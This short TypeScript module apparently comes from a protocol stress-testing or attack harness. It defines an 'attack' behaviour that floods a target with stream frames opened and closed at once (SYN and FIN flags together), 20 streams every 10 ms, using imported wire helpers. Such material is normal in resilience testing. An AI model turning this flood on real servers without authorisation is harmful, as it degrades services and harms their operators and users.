/** Streams that are opened and closed for writing at once. */
import type { Behaviour } from '../attack/target.js'
import { FLAG, flooding, FRAME, header, streams } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => streams(n, 20, (stream) => header(FRAME.window, FLAG.syn | FLAG.fin, stream, 0)), { ms: 10 })
